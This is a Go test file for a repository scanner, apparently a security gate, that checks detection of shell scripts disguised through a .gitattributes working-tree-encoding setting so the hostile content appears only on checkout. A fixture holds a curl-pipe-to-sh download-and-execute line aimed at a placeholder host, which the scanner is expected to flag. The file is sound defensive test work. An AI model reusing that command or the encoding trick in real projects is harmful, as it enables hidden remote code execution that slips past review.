package static_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/text/encoding/unicode"

	"github.com/aigate/gate/gate"
)

func TestAFileIsReadInTheBytesThatGitChecksOut(t *testing.T) {
	const script = "#!/bin/sh\ncurl -s http://x.example.com/i.sh | sh\n#\n"
	asText := func(program string) []byte { // the text whose UTF-16 bytes are a program
		text, err := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewDecoder().Bytes([]byte(program))
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	for _, tc := range []struct {
		name, attributes string
		content          []byte
		want             []string
	}{
		{"text that is a program when it is checked out", "*.sh working-tree-encoding=UTF-16LE\n", asText(script), []string{"download-execute/shell-pipe"}},
		{"by a macro", "[attr]x working-tree-encoding=utf-16le\n*.sh x\n", asText(script), []string{"download-execute/shell-pipe"}},
		{"another file", "*.bat working-tree-encoding=UTF-16LE\n", asText(script), nil},
		{"a harmless program", "*.sh working-tree-encoding=UTF-16LE\n", asText("#!/bin/sh\necho hello\n"), nil},
		{"a harmless program as it is written", "*.sh working-tree-encoding=UTF-16LE\n", []byte("#!/bin/sh\necho hello\n"), nil},
		{"no encoding", "*.sh text eol=lf\n", []byte("#!/bin/sh\necho hello\n"), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			base := fstest.MapFS{"README": {Data: []byte("x\n")}, ".gitattributes": {Data: []byte(tc.attributes)}}
			head := fstest.MapFS{"README": base["README"], ".gitattributes": base[".gitattributes"], "install.sh": {Data: tc.content}}
			target := &gate.Target{Path: "install.sh", Language: gate.LanguageShell, Role: gate.RoleSource, Kind: gate.ChangeAdded, Size: int64(len(tc.content))}
			got := slices.DeleteFunc(changedIn(t, base, head, target), func(rule string) bool { return strings.HasPrefix(rule, "hidden-text/") })
			for _, rule := range tc.want {
				if !slices.Contains(got, rule) {
					t.Errorf("got %q, want %q", got, rule)
				}
			}
			if len(tc.want) == 0 && len(got) > 0 {
				t.Errorf("got %q for a harmless file", got)
			}
		})
	}
}

func TestALineThatGivesFilesAnotherEncodingIsAFinding(t *testing.T) {
	for _, tc := range []struct {
		base, head string
		want       []string
	}{
		{"", "*.sh working-tree-encoding=UTF-16LE\n", []string{"file/checked-out-otherwise"}},
		{"*.sh working-tree-encoding=UTF-16LE\n", "# why\n*.sh working-tree-encoding=UTF-16LE eol=crlf\n", nil},
		{"", "*.sh text eol=lf\n*.png binary\n", nil},
		{"*.sh working-tree-encoding=UTF-16LE\n", "*.sh -working-tree-encoding\n", nil},
	} {
		base := fstest.MapFS{".gitattributes": {Data: []byte(tc.base)}}
		head := fstest.MapFS{".gitattributes": {Data: []byte(tc.head)}}
		target := &gate.Target{Path: ".gitattributes", Language: gate.LanguageText, Role: gate.RoleInfra, Kind: gate.ChangeModified, Size: int64(len(tc.head))}
		if got := changedIn(t, base, head, target); !slices.Equal(got, tc.want) {
			t.Errorf("%q → %q: got %q, want %q", tc.base, tc.head, got, tc.want)
		}
	}
}

func TestAnEncodingThatIsNotKnownIsAGap(t *testing.T) {
	head := fstest.MapFS{".gitattributes": {Data: []byte("*.sh working-tree-encoding=no-such\n")}, "a.sh": {Data: []byte("echo\n")}}
	target := &gate.Target{Path: "a.sh", Language: gate.LanguageShell, Role: gate.RoleSource, Kind: gate.ChangeAdded, Size: 5}
	got := run(t, newScanner(t, nil), head, target)
	if len(got.gaps) == 0 {
		t.Error("no gap")
	}
}
